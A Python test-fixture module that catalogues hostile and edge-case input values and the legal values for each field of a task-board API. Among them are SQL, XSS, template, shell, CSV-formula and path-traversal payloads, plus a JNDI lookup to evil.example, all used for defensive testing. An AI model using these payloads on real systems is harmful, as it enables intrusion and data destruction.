"""Hostile values, and what is legal for each kind of field: by hand, from the contract."""

import json
import re
from typing import Any
from uuid import UUID

from tests.conftest import PASSWORD

UNKNOWN = "019a3f5e-7c1d-7b1e-9a53-0f2b7f6f1c11"
# Planted in the values; no answer that refuses one may hold either of them.
MARK, DIGITS = "zqmark", "3141592"

TEXTS = {
    "NUL": f"{MARK}\0x",
    "NUL alone": "\0",
    "empty": "",
    "blank": " \u2003\n\t",
    "one character": "x",
    "right to left": f"{MARK}\u202e\u05d0\u0647\u202c",
    "zero width": f"{MARK}\u200b\u200d\ufeff\u2060",
    "combining flood": MARK + "\u0301" * 100,
    "emoji of seven code points": MARK + "\u200d".join("\U0001f468\U0001f469\U0001f467\U0001f466"),
    "noncharacters": f"{MARK}\uffff\U0010ffff\ufdd0",
    "control characters": f"{MARK}\x01\x1b[31m\x7f\x85",
    "line breaks": f"{MARK}\r\nSet-Cookie: session=x\r\n\r\n",
    "decomposed": f"{MARK}e\u0301\u212b\ufb03",
    "HTML": f"<script>alert('{MARK}')</script>",
    "HTML attribute": f'"><img src=x onerror="{MARK}()">',
    "HTML entities": f"&lt;{MARK}&#0;&amp;",
    "SQL": f"'; DROP TABLE users; --{MARK}",
    "SQL condition": f"{MARK}' OR '1'='1",
    "SQL pattern": f"%_{MARK}\\",
    "SQL parameters": f"$1 :x %(y)s ? {MARK}",
    "template": f"{{{{7*7}}}}${{7*7}}<%= 7*7 %>#{{{MARK}}}",
    "format string": f"%s%n%x {{0.__class__}} {MARK}",
    "lookup": f"${{jndi:ldap://evil.example/{MARK}}}",
    "path": f"../../../../etc/{MARK}%00",
    "Windows path": f"..\\..\\{MARK}\\CON",
    "two dots": "..",
    "shell": f"$(touch {MARK}) `{MARK}` | & ;",
    "formula": f"=cmd|' /C calc'!A0 {MARK}",
    "JSON": f'{{"{MARK}": 1}}',
    "null in quotes": "null",
    "true in quotes": "true",
    "NaN in quotes": "NaN",
    "number in quotes": f"{DIGITS}653",
    "one in quotes": "1",
    "one with a plus": "+1",
    "one with a zero": "01",
    "one with blanks": " 1 ",
    "one with an underscore": "1_0",
    "one with a fraction": "1.0",
    "one in Arabic": "\u0661",
    "one in full width": "\uff11",
    "255 characters": f"{MARK}{'x' * 249}",
    "255 astral characters": "\U0001f600" * 255,
    "256 characters": f"{MARK}{'x' * 250}",
    "10,000 characters": f"{MARK}{'x' * 9994}",
    "10,001 characters": f"{MARK}{'x' * 9995}",
    # Ids, all of nobody.
    "id": UNKNOWN,
    "id in upper case": UNKNOWN.upper(),
    "id in braces": f"{{{UNKNOWN}}}",
    "id as a URN": f"urn:uuid:{UNKNOWN}",
    "id without hyphens": UNKNOWN.replace("-", ""),
    "id of 31 digits": UNKNOWN[:-1],
    "id of 33 digits": f"{UNKNOWN}1",
    "id with a blank": f"{UNKNOWN} ",
    "id with a line break": f"{UNKNOWN}\n",
    "id with NUL": f"{UNKNOWN}\0",
    "id in full width": UNKNOWN.replace("019", "\uff10\uff11\uff19"),
    "id of zeros": "00000000-0000-0000-0000-000000000000",
    "id of ones": "ffffffff-ffff-ffff-ffff-ffffffffffff",
    # Times.
    "naive time": "2026-05-01T12:00:00",
    "date": "2026-05-01",
    "time of day": "12:00:00Z",
    "leap second": "2026-06-30T23:59:60Z",
    "hour 24": "2026-05-01T24:00:00Z",
    "30 February": "2026-02-30T12:00:00Z",
    "29 February of no leap year": "1900-02-29T12:00:00Z",
    "year 0": "0000-01-01T00:00:00Z",
    "year 1": "0001-01-01T00:00:00Z",
    "year 1 with an offset": "0001-01-01T00:00:00+14:00",
    "year 9999": "9999-12-31T23:59:59.999999Z",
    "year 9999 with an offset": "9999-12-31T23:59:59-01:00",
    "year 10000": "10000-01-01T00:00:00Z",
    "year before 0": "-0001-01-01T00:00:00Z",
    "offset of 45 minutes": "2026-05-01T12:00:00+05:45",
    "offset of zero below": "2026-05-01T12:00:00-00:00",
    "offset of a day": "2026-05-01T12:00:00+24:00",
    "offset of 99 hours": "2026-05-01T12:00:00+99:99",
    "offset without colon": "2026-05-01T12:00:00+0200",
    "offset by name": "2026-05-01T12:00:00 Europe/Warsaw",
    "nanoseconds": "2026-05-01T12:00:00.123456789Z",
    "time in small letters": "2026-05-01t12:00:00z",
    "time with a line break": "2026-05-01T12:00:00Z\n",
    "time in Arabic digits": "٢٠٢٦-05-01T12:00:00Z",
    # Colours, addresses, pictures, roles.
    "time zone": "America/Argentina/ComodRivadavia",
    "time zone in small letters": "europe/berlin",
    "time zone with an offset": "UTC+2",
    "colour": "#2f80eD",
    "colour without #": "2f80ed",
    "colour of three digits": "#28e",
    "colour with alpha": "#2f80edff",
    "colour with a line break": "#2f80ed\n",
    "colour with CSS": f"red;{MARK}",
    "e-mail": f"{MARK}@example.com",
    "e-mail with a plus": f"{MARK}+a'b@example.com",
    "e-mail of another script": f"{MARK}жук@почта.example",
    "e-mail without domain": f"{MARK}@",
    "e-mail with two @": f"{MARK}@a@example.com",
    "e-mail with a name": f"A <{MARK}@example.com>",
    "e-mail with a header": f"{MARK}@example.com\nBcc:x@example.com",
    "e-mail with zero width": f"{MARK}\u200b@example.com",
    "https address": f"https://pictures.example/{MARK}.png?a=1&b=%20",
    "http address": f"http://pictures.example/{MARK}",
    "script address": f"javascript:alert('{MARK}')",
    "data address": f"data:text/html,{MARK}",
    "address of no scheme": f"//evil.example/{MARK}",
    "address with a line break": f"https://pictures.example/{MARK}\n",
    "drawn picture": f"/api/avatars/{MARK}.svg",
    "path of another file": f"/api/avatars/../{MARK}.svg",
    "role below all": "VIEWER",
    "role of a member": "MEMBER",
    "role of a moderator": "MODERATOR",
    "role of the creator": "CREATOR",
    "role in small letters": "member",
    "role with a blank": "MEMBER ",
    "priority": "HIGH",
    "status": "IN_PROGRESS",
}

# Everything else, as the body holds it.
NUMBERS = {
    "zero": "0",
    "minus zero": "-0",
    "minus zero as a float": "-0.0",
    "zero as a float": "0.0",
    "one": "1",
    "one as a float": "1.0",
    "one with an exponent": "1e0",
    "minus one": "-1",
    "float": f"{DIGITS}.5",
    "an hour": "3600",
    "large": "2147483647",
    "too large": "2147483648",
    "beyond 64 bits": f"{DIGITS}{'0' * 20}",
    "4,000 digits": DIGITS + "9" * 3993,
    "1e400": "1e400",
    "-1e400": "-1e400",
    "1e-400": "1e-400",
    "a time as a number": f"{DIGITS}653",
}
OTHERS = {
    "null": "null",
    "true": "true",
    "false": "false",
    "array": "[]",
    "array of a text": f'["{MARK}"]',
    "array of null": "[null]",
    "array of an id": f'["{UNKNOWN}"]',
    "array of a scope": '["read"]',
    "array of an id, twice": f'["{UNKNOWN}", "{UNKNOWN}"]',
    "array of 201 ids": f"{[str(UUID(int=n + 1)) for n in range(201)]}".replace("'", '"'),
    "object": "{}",
    "object of a text": f'{{"{MARK}": "{MARK}"}}',
    "object with an operator": f'{{"$ne": "{MARK}"}}',
    "object with duplicate keys": f'{{"a": "{MARK}", "a": 1}}',
    "object with a prototype": f'{{"__proto__": {{"is_admin": true, "{MARK}": 1}}}}',
    "arrays, 31 deep": "[" * 31 + "]" * 31,  # and the body around them
}
NO_JSON = {
    "lone surrogate": f'"{MARK}\\ud800"',
    "lone surrogate, the second half": f'"{MARK}\\udc00"',
    "surrogates in the wrong order": f'"{MARK}\\udc00\\ud800"',
    "NaN": "NaN",
    "Infinity": "Infinity",
    "-Infinity": "-Infinity",
    "10,000 digits": DIGITS + "9" * 9993,
    "hexadecimal": "0x1F",
    "plus": "+1",
    "leading zero": "01",
    "no digit before the point": ".5",
    "Python's True": "True",
    "single quotes": f"'{MARK}'",
    "line break in a text": f'"{MARK}\n"',
    "bad escape": f'"{MARK}\\x41"',
    "no end": f'"{MARK}',
    "comment": f'1 /* {MARK} */',
    "trailing comma": "[1,]",
    "arrays, 32 deep": "[" * 32 + "]" * 32,
    "array of arrays": "[" * 150 + "]" * 150,
    "objects in arrays, 17 deep": '[{"a":' * 17 + "1" + "}]" * 17,
    "arrays without end": "[" * 100_000,
    "arrays, 100,000 deep": "[" * 100_000 + "]" * 100_000,
    "objects, 1,000 deep": '{"a":' * 1000 + "1" + "}" * 1000,
    "nothing": "",
}  # fmt: skip

TEXTS_IN_JSON = {name: json.dumps(value, ensure_ascii=False) for name, value in TEXTS.items()}
VALUES = {**TEXTS_IN_JSON, **NUMBERS, **OTHERS, **NO_JSON}


def texts(least: int, most: int) -> set[str]:
    """Return those of so many characters, without U+0000."""
    return {name for name, value in TEXTS.items() if least <= len(value) <= most} - {
        "NUL", "NUL alone", "id with NUL",
    }  # fmt: skip


IDS = {
    "id", "id in upper case", "id in braces", "id as a URN", "id without hyphens", "id of zeros",
    "id of ones",
}  # fmt: skip
PASSWORDS = {name for name, value in TEXTS.items() if 8 <= len(value) <= 128}

# What is legal for each kind of field.
LEGAL: dict[str, set[str]] = {
    "title": texts(1, 255) - {"blank"},
    "description": texts(0, 10_000) | {"null"},
    "content": texts(1, 10_000) - {"blank"},
    # JSON knows numbers only: to its schemas 1.0 is an integer, and 1e-400 is read as 0.0.
    "position": {
        "an hour", "zero", "minus zero", "one", "large", "minus zero as a float", "zero as a float",
        "one as a float", "one with an exponent", "1e-400",
    },
    "flag": {"true", "false"},
    "colour": {"colour", "null"},
    "time": {
        "null", "year 1", "year 9999", "offset of 45 minutes", "offset of zero below",
        "nanoseconds", "time in small letters", "date",
    },
    "time zone": {"time zone"},
    "priority": {"priority"},
    "status": {"status"},
    "role": {"role below all", "role of a member", "role of a moderator", "role of the creator"},
    "role to add": {"role below all", "role of a member", "role of a moderator"},
    "id": IDS,
    "ids": {"array of an id"},
    "links": {"array"},
    "steps": {"array"},
    "records": set(),
    "parts": {"array"},
    "username": {
        "combining flood", "null in quotes", "true in quotes", "NaN in quotes",
        "number in quotes", "one with an underscore", "one with a fraction",
        "decomposed", "date", "id", "id in upper case", "id without hyphens",
        "id of 31 digits", "id of 33 digits", "id in full width", "id of zeros", "id of ones",
        "role below all", "role of a member", "role of a moderator", "role of the creator",
        "role in small letters", "priority", "status", "colour without #",
    },
    "e-mail": {"e-mail", "e-mail with a plus", "e-mail of another script"},
    "picture": {"https address", "drawn picture", "null"},
    "password": PASSWORDS,
    "password asked": {name for name, value in TEXTS.items() if len(value) <= 128},
    "name asked": texts(0, 255),
    "name of a member": texts(0, 150),
    "e-mail of a member": texts(0, 255),
    "invitation": texts(0, 200),
    "seconds": {"an hour"},
    "uses": {"one", "one as a float", "one with an exponent", "null"},
    "task limit": {"one", "one as a float", "one with an exponent", "an hour", "null"},
    "scopes": {"array of a scope"},
}  # fmt: skip

# All values are tried in the first place of a kind. In each other place these are: some that are
# no JSON, of another type, or too much for any field, and those that are almost or just legal.
GENERAL = {
    "NUL", "10,001 characters", "float", "beyond 64 bits", "null", "true",
    "object with an operator", "lone surrogate", "no end",
}  # fmt: skip
FEW: dict[str, set[str]] = {
    "title": {"blank", "SQL", "HTML", "256 characters", "255 astral characters"},
    "description": {"empty", "line breaks", "10,000 characters", "array of a text"},
    "content": {"empty", "blank", "line breaks", "10,000 characters"},
    "position": {"zero", "one as a float", "one in quotes", "minus one", "large", "too large"},
    "flag": {"true", "false", "true in quotes", "zero", "one"},
    "colour": {"colour", "colour without #", "colour with a line break", "colour with CSS"},
    "time": {"year 9999", "offset of 45 minutes", "naive time", "date", "a time as a number"},
    "time zone": {"time zone", "time zone in small letters", "empty"},
    "priority": {"priority", "status", "empty"},
    "status": {"status", "priority", "empty"},
    "role": {"role of a member", "role of the creator", "role in small letters", "empty"},
    "role to add": {"role of a member", "role of the creator", "role with a blank"},
    "id": {"id", "id without hyphens", "id of 31 digits", "id with a line break", "empty"},
    "ids": {"array of an id", "array of an id, twice", "array of 201 ids", "array", "id"},
    "links": {"array of an id", "array of an id, twice", "array of 201 ids", "array", "id"},
    "steps": {"array", "array of an id", "array of arrays", "array of null"},
    "records": {"array", "array of an id", "array of arrays", "array of null"},
    "parts": {"array", "array of a text", "array of null"},
    "username": {"decomposed", "id", "path", "one with blanks", "255 characters"},
    "e-mail": {"e-mail", "e-mail of another script", "e-mail with a header", "e-mail with two @"},
    "picture": {"https address", "http address", "script address", "path of another file"},
    "password": {"emoji of seven code points", "control characters", "empty", "255 characters"},
    "password asked": {"empty", "control characters", "255 characters"},
    "name asked": {"empty", "SQL", "255 characters", "256 characters"},
    "name of a member": {"empty", "SQL", "255 characters"},
    "e-mail of a member": {"e-mail", "SQL", "256 characters"},
    "seconds": {"an hour", "zero", "minus one", "one in quotes"},
    "uses": {"one", "zero", "minus one", "one in quotes", "too large"},
    "task limit": {"one", "zero", "minus one", "one in quotes", "too large"},
    "scopes": {"array of a scope", "array", "array of null"},
    "invitation": {"empty", "SQL", "255 characters", "256 characters"},
}

# Which of them are tried where each costs a hash of a password.
DEAR = {
    "NUL", "NUL alone", "empty", "blank", "right to left", "combining flood", "decomposed", "SQL",
    "emoji of seven code points", "control characters", "255 characters", "id", "e-mail",
}  # fmt: skip
HASHED = {"password", "password asked", "name asked"}

LINKS = (
    "label_ids", "add_label_ids", "remove_label_ids",
    "assignee_ids", "add_assignee_ids", "remove_assignee_ids",
)  # fmt: skip
# What each field is, and what is sent for it while another one is tried.
FIELDS: dict[str, tuple[str, Any]] = {
    "username": ("username", "newcomer"),
    "email": ("e-mail", "newcomer@example.com"),
    "invitation": ("invitation", None),
    "password": ("password", "a lighthouse at dawn"),
    "current_password": ("password asked", PASSWORD),
    "new_password": ("password", "a lighthouse at dawn"),
    "is_admin": ("flag", False),
    "avatar_url": ("picture", None),
    "title": ("title", "Title"),
    "description": ("description", None),
    "is_public": ("flag", True),
    "viewers_can_comment": ("flag", True),
    "is_template": ("flag", False),
    "include": ("parts", []),
    "color": ("colour", None),
    "time_zone": ("time zone", "UTC"),
    "position": ("position", 0),
    "due_date": ("time", None),
    "priority": ("priority", "LOW"),
    "status": ("status", "TODO"),
    "is_completed": ("flag", False),
    "match_labels": ("flag", False),
    "role": ("role", "MEMBER"),
    "user_id": ("id", UNKNOWN),
    "board_id": ("id", "{board}"),
    "column_id": ("id", "{column}"),
    "task_id": ("id", "{task}"),
    "content": ("content", "Content"),
    "name": ("title", "Name"),
    "ids": ("ids", ["{task}"]),
    **dict.fromkeys(LINKS, ("links", [])),
    "subtasks": ("steps", []),
    "items": ("records", [{"column_id": "{column}", "title": "Title"}]),
    "expires_in": ("seconds", 3600),
    "max_uses": ("uses", None),
    "task_limit": ("task limit", None),
    "limits_are_advisory": ("flag", True),
    "scopes": ("scopes", ["read"]),
    "due_in_3_days": ("flag", True),
    "due_in_1_day": ("flag", True),
    "before": ("id", UNKNOWN),
    "after": ("id", UNKNOWN),
}
ELSEWHERE = {
    ("login_user", "username"): "name asked",
    ("login_user", "password"): "password asked",
    ("add_board_user", "username"): "name of a member",
    ("add_board_user", "email"): "e-mail of a member",
    ("add_board_user", "role"): "role to add",
    ("create_invitation", "role"): "role to add",
}
# The bodies that need any of several fields: which, and the one that is sent.
SOMETHING = [
    ({"add_board_user": {"user_id", "username", "email"}}, "username", "bystander"),
    ({"move_column": {"before", "after", "position"},
      "move_task": {"before", "after", "position"},
      "move_subtask": {"before", "after", "position"}}, "position", 0),
    ({"patch_user": {"username"}}, "username", "newcomer"),
    ({"patch_tasks": {"color"}}, "color", None),
]  # fmt: skip

# What a legal value is answered with where it isn't simply kept: nobody has that name or id.
ASKED = {
    ("register_user", "invitation"): 422,
    ("login_user", "username"): 401,
    ("login_user", "password"): 401,
    ("change_password", "current_password"): 403,
    ("change_password", "new_password"): 204,
    ("reset_password", "new_password"): 204,
    ("add_board_user", "user_id"): 422,
    ("add_board_user", "username"): 422,
    ("add_board_user", "email"): 422,
    # Nobody needs it to change or delete another account.
    ("update_user", "current_password"): 200,
    ("patch_user", "current_password"): 200,
    ("delete_user", "current_password"): 204,
    ("create_column", "board_id"): 404,
    ("update_column", "board_id"): 404,
    ("patch_column", "board_id"): 404,
    ("move_column", "board_id"): 404,
    **{
        (f"{verb}_{record}", "match_labels"): 200
        for verb in ("update", "patch", "move")
        for record in ("column", "task")
    },
    ("patch_tasks", "match_labels"): 200,
    **{(f"copy_{record}", "include"): 201 for record in ("board", "column", "task")},
    ("create_task", "column_id"): 404,
    ("update_task", "column_id"): 404,
    ("patch_task", "column_id"): 404,
    ("patch_tasks", "column_id"): 404,
    ("patch_tasks", "ids"): 404,
    # No answer shows these.
    ("create_task", "subtasks"): 201,
    **{("patch_tasks", name): 200 for name in LINKS if not name.startswith(("label", "assignee"))},
    ("move_task", "column_id"): 404,
    **{
        (move, place): 409
        for move in ("move_column", "move_task", "move_subtask")
        for place in ("before", "after")
    },
    ("update_subtask", "task_id"): 404,
    ("patch_subtask", "task_id"): 404,
    ("move_subtask", "task_id"): 404,
    ("create_subtask", "task_id"): 404,
    ("create_comment", "task_id"): 404,
    ("create_board_comment", "board_id"): 404,
    ("create_label", "board_id"): 404,
}
# What is kept of a legal value where it isn't the value itself.
KEPT: dict[tuple[str, str], Any] = {
    ("time", "offset of 45 minutes"): "2026-05-01T06:15:00Z",
    ("time", "offset of zero below"): "2026-05-01T12:00:00Z",
    ("time", "nanoseconds"): "2026-05-01T12:00:00.123456Z",
    ("time", "time in small letters"): "2026-05-01T12:00:00Z",
    ("uses", "one as a float"): 1,
    ("uses", "one with an exponent"): 1,
    ("task limit", "one as a float"): 1,
    ("task limit", "one with an exponent"): 1,
    ("picture", "null"): "/api/avatars/newcomer.svg",
}

# What is legal for each kind of parameter.
PARAMETERS = {
    **dict.fromkeys(
        (
            "user_id",
            "board_id",
            "column_id",
            "task_id",
            "subtask_id",
            "session_id",
            "comment_id",
            "board_comment_id",
            "label_id",
            "invitation_id",
            "token_id",
            "assignee_id",
            "actor_id",
            "board",
            "id",
        ),
        "id",
    ),
    **dict.fromkeys(("after", "last_event_id", "last-event-id"), "place in the log"),
    "wait": "wait",
    **dict.fromkeys(("event_id", "notification_id"), "number of an event"),
    "token": "token",
    "limit": "limit",
    "cursor": "cursor",
    "count": "count",
    "name": "name",
    "q": "words",
    "username": "name looked for",
    "email": "e-mail looked for",
    "boards": "fate",
    "status": "status",
    "priority": "priority",
    "role": "role",
    "kind": "kind",
    **{
        f"{name}__{word}": kind
        for name, kind in (
            ("due_date", "day or moment"),
            ("created_at", "moment"),
            ("updated_at", "moment"),
        )
        for word in ("lt", "lte", "gt", "gte")
    },
    **dict.fromkeys(
        (
            "archived",
            "due_date__isnull",
            "is_admin",
            "is_completed",
            "is_public",
            "is_template",
            "permanent",
        ),
        "flag",
    ),
    "sort": "order",
    "If-Match": "etags",
    "If-None-Match": "etags",
    "Idempotency-Key": "key",
}


def looked_for(longest: int) -> set[str]:
    """Return the values of 1 to `longest` characters without NUL."""
    short = {name for name in VALUES if 1 <= len(TEXTS.get(name, VALUES[name])) <= longest}
    return short - {"NUL", "NUL alone", "id with NUL"}


LEGAL_PARAMETERS = {
    "id": IDS,
    "limit": {"one", "one in quotes"},
    "status": {"status"},
    "priority": {"priority"},
    "role": LEGAL["role"],
    "day or moment": LEGAL["time"] - {"null"},
    "moment": LEGAL["time"] - {"null", "date"},
    "flag": {"true", "false", "true in quotes"},
    "order": set[str](),
    "kind": set[str](),
    "token": set[str](),
    "cursor": set[str](),
    "count": set[str](),
    "place in the log": set[str](),
    "wait": {"zero", "minus zero", "one", "one in quotes"},
    "number of an event": {
        "one", "one in quotes", "number in quotes", "an hour", "large", "too large",
        "a time as a number",
    },
    # Whatever is in quotes could be an ETag, though it is none of ours.
    "etags": {
        "lone surrogate", "lone surrogate, the second half", "surrogates in the wrong order",
        "bad escape", "line break in a text",
    },
    "name": {  # anything that is one part of a path, up to 150 characters
        name
        for name in VALUES
        if name not in {
            "nothing", "empty", "255 characters", "255 astral characters", "256 characters",
            "10,000 characters", "10,001 characters", "4,000 digits", "10,000 digits",
            "array of arrays", "array of 201 ids", "arrays without end", "arrays, 100,000 deep",
            "objects, 1,000 deep",
        }
    },
    "key": {
        name for name in VALUES if re.fullmatch("[!-~]{1,255}", TEXTS.get(name, VALUES[name]))
    },
    "name looked for": looked_for(150),
    "e-mail looked for": looked_for(255),
    "fate": set[str](),
    "words": {
        name for name in VALUES if 1 <= len(TEXTS.get(name, VALUES[name])) <= 200
    } - {"NUL", "NUL alone", "id with NUL", "blank"},
}  # fmt: skip
# The same for parameters.
GENERAL_PARAMETERS = {
    "NUL", "256 characters", "float", "beyond 64 bits", "null", "array of a text",
    "lone surrogate", "bad UTF-8", "cut escape",
}  # fmt: skip
FEW_PARAMETERS: dict[str, set[str]] = {
    **{kind: FEW[kind] for kind in ("id", "status", "priority", "role", "flag")},
    **dict.fromkeys(("moment", "day or moment"), FEW["time"]),
    "limit": {"one", "zero", "minus one", "one with a plus", "one with blanks", "too large"},
    "cursor": {"empty", "id", "number in quotes"},
    "count": {"empty", "id", "SQL"},
    "place in the log": {"empty", "id", "SQL"},
    "wait": {"zero", "minus one", "too large"},
    "number of an event": {"zero", "minus one", "one", "id"},
    "order": {"empty", "id", "SQL"},
    "kind": {"empty", "status", "SQL"},
    "token": {"SQL", "id", "path"},
    "etags": {"empty", "id", "bad escape", "line break in a text", "NaN"},
    "key": {"empty", "emoji of seven code points", "line breaks"},
    "name": {"SQL", "path", "emoji of seven code points", "256 characters"},
    "words": {"SQL", "SQL pattern", "combining flood", "blank", "empty"},
    "name looked for": {"SQL", "combining flood", "empty"},
    "e-mail looked for": {"SQL", "e-mail", "empty"},
    "fate": {"empty", "SQL", "id"},
}
# What only an address can hold, already encoded.
ENCODED = {"bad UTF-8": "%ff", "overlong NUL": "%c0%80", "half a surrogate": "%ed%a0%80",
           "cut escape": "%", "wrong escape": "%zz", "escaped twice": "%2500"}  # fmt: skip
LONGEST = 20_000  # more than that no client sends; see the floods below
